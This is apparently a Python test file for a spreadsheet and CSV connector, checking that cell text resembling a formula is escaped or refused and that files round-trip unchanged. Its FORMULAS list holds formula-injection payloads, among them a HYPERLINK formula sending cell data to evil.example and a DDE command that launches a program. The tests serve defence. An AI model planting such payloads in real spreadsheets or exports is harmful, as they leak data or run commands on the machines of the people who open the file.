"""Texts stay texts: none becomes a formula in a program that opens the file, and each comes back as it was."""

import csv
import io
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from keep_actors.connectors import DidNotHappen, Happened, InvalidCall
from keep_actors.services.sheet.cells import shielded, unshielded
from keep_storage.model import FailureClass
from tests.services.files.calls import said
from tests.services.sheet.sheets import caller, cells, formulas_of, made, put, row

FORMULAS = [
    '=HYPERLINK("http://evil.example/"&A1, "click")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    " =1+1",
    "\n=1+1",
    "'=1+1",
    "''=1+1",
    "=cmd|'/C calc'!A0",
    "\uff1d1+1",
    '="a\nb"',
]


@pytest.mark.anyio
@pytest.mark.parametrize("text", FORMULAS)
async def test_a_text_like_a_formula_stays_a_text(text: str, file: Path) -> None:
    sheet = caller(file)
    assert isinstance(await sheet.mutate("appendRow", dict(row(name=text))), Happened)
    assert said(await sheet.read("getRow", id="3"))["name"] == text
    assert said(await sheet.read("rows", where={"name": text}))["rows"][0]["id"] == "3"
    if file.suffix == ".csv":
        assert cells(file)[3][1] == f"'{text}"
    else:
        assert cells(file)[3][1] == text
        assert formulas_of(file) == []


@pytest.mark.anyio
async def test_a_carriage_return_begins_no_formula(tmp_path: Path) -> None:
    file = made(tmp_path / "a.csv")
    sheet = caller(file)
    assert isinstance(await sheet.mutate("appendRow", dict(row(name="\r=1+1"))), Happened)
    assert cells(file)[3][1] == "'\r=1+1"
    assert said(await sheet.read("getRow", id="3"))["name"] == "\r=1+1"
    workbook = await caller(made(tmp_path / "a.xlsx")).mutate("appendRow", dict(row(name="\r=1+1")))
    assert isinstance(workbook, DidNotHappen)
    assert workbook.cls is FailureClass.LOGIC


@pytest.mark.anyio
async def test_a_negative_number_stays_a_number(file: Path) -> None:
    await caller(file).mutate("appendRow", dict(row(amount=-7)))
    assert str(cells(file)[3][2]) == "-7"


@pytest.mark.anyio
async def test_texts_like_formulas_are_refused_or_kept_if_the_operator_says_so(tmp_path: Path) -> None:
    file = made(tmp_path / "a.csv")
    refused = await caller(file, formula_text="refuse").mutate("appendRow", dict(row(name="=1")))
    assert isinstance(refused, DidNotHappen)
    assert refused.cls is FailureClass.LOGIC
    assert "begins like a formula" in refused.message
    await caller(file, formula_text="keep").mutate("appendRow", dict(row(name="=1")))
    assert cells(file)[3][1] == "=1"


@given(st.text(max_size=10) | st.from_regex(r"'{0,3}\s{0,2}[=+@\-\t]?.{0,3}"))
def test_a_shielded_text_is_given_back_and_begins_no_formula(text: str) -> None:
    shown = shielded(text, "escape")
    assert unshielded(shown, "escape") == text
    assert shown.lstrip()[:1] not in ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")
    assert shown[:1] not in ("\t", "\r", "\n") or not shown.strip()
    if shown != text:
        with pytest.raises(InvalidCall):
            shielded(text, "refuse")


ODD = [
    'a,"b"',
    'quote " in it',
    "two\nlines",
    "  spaces  ",
    "ünï €",
    "😀",
    ";",
    "x" * 32_000,
    "0012",
    "true",
    "#N/A",
    "1e5",
]


@pytest.mark.anyio
@pytest.mark.parametrize("text", ODD, ids=lambda text: text[:10])
async def test_any_text_comes_back_as_it_was(text: str, file: Path) -> None:
    sheet = caller(file)
    assert isinstance(await sheet.mutate("appendRow", dict(row(id=f"k{text}"[:200], name=text))), Happened)
    assert cells(file)[3][1] == text, "also for another program"
    assert said(await sheet.read("getRow", id=f"k{text}"[:200]))["name"] == text


# What stays as it is in a CSV file.

KEPT: dict[str, tuple[str, dict[str, Any]]] = {
    "quotes that are not needed": ('"id","name","amount"\r\n"1","Ann",10\r\n', {}),
    "line ends": ("id,name,amount\r\n1,Ann,10\n2,Bob,20\r\n", {}),
    "a mark at the beginning": ("\ufeffid,name,amount\n1,Ann,10\n", {}),
    "empty lines": ("id,name,amount\n\n1,Ann,10\n\n", {}),
    "lines above the header": ("List of people\n\nid,name,amount\n1,Ann,10\n", {"header_row": 3}),
    "semicolons": ("id;name;amount\n1;Ann, the first;10\n", {"delimiter": ";"}),
    "another encoding": ("id,name,amount\n1,J\xfcrgen,10\n", {"encoding": "cp1252"}),
    "columns of others": ("x,id,name,amount,y\nA,1,Ann,10,=1+1\n", {}),
    "no line end at the end": ("id,name,amount\n1,Ann,10", {}),
}


@pytest.mark.anyio
@pytest.mark.parametrize("case", KEPT)
async def test_everything_that_is_not_changed_stays_byte_for_byte(case: str, tmp_path: Path) -> None:
    text, more = KEPT[case]
    encoding = more.get("encoding", "utf-8")
    file = put(tmp_path / "a.csv", text.encode(encoding))
    sheet = caller(file, **more)
    assert said(await sheet.mutate("updateRow", {"id": "1", "amount": 11}))["amount"] == 11
    put_back = (tmp_path / "a.csv").read_bytes().decode(encoding)
    header, mark = put_back.splitlines()[more.get("header_row", 1) - 1], more.get("delimiter", ",")
    without = put_back.replace(f"{mark}keep_call", "", 1).replace("11", "10", 1)
    for line in without.splitlines():
        if line and line not in text:
            without = without.replace(line, line.rpartition(mark)[0])
    assert header.endswith(f"{mark}keep_call")
    assert without == text


@pytest.mark.anyio
async def test_a_file_of_the_suffix_tsv_has_tabs_between_its_cells(tmp_path: Path) -> None:
    file = put(tmp_path / "a.tsv", "id\tname\tamount\n1\tAnn, the first\t10\n")
    sheet = caller(file)
    assert said(await sheet.mutate("updateRow", {"id": "1", "amount": 11}))["name"] == "Ann, the first"
    assert (tmp_path / "a.tsv").read_text().splitlines()[1].startswith("1\tAnn, the first\t11\t. ")


BROKEN = {
    "a quote that does not end": b'id,name,amount\n1,"Ann,10\n',
    "words behind a quote": b'id,name,amount\n1,"Ann"x,10\n',
    "bytes that are no text": b"id,name,amount\n1,\xff,10\n",
    "nothing": b"",
    "no header": b"\n\n1,Ann,10\n",
    "a row that is too long": b"id,name,amount\n1,Ann,10,more\n",
}


@pytest.mark.anyio
@pytest.mark.parametrize("case", BROKEN)
async def test_a_file_that_is_no_table_is_not_changed(case: str, tmp_path: Path) -> None:
    file = put(tmp_path / "a.csv", BROKEN[case])
    outcome = await caller(file).mutate("updateRow", {"id": "1", "amount": 11})
    assert isinstance(outcome, DidNotHappen), outcome
    assert outcome.cls is FailureClass.PRECONDITION
    assert (tmp_path / "a.csv").read_bytes() == BROKEN[case]


@given(
    st.lists(
        st.lists(st.text(st.sampled_from("a\"\n\r,;'=é "), max_size=5), min_size=2, max_size=2), min_size=1, max_size=5
    )
)
def test_any_csv_of_another_program_is_read_as_that_program_reads_it(rows: list[list[str]]) -> None:
    from keep_actors.services.sheet.csv_grid import CsvGrid
    from tests.services.sheet.sheets import settings

    file = io.StringIO()
    csv.writer(file).writerows([["id", "name"], *rows])
    columns = {"id": "text", "name": "text"}
    grid = CsvGrid(settings(Path("a.csv"), columns=columns, formula_text="keep"), file.getvalue().encode())
    assert grid.content().decode() == file.getvalue()
    found = [[grid.value(row, place, "text") or "" for place in (0, 1)] for row in grid.rows]
    assert found == rows
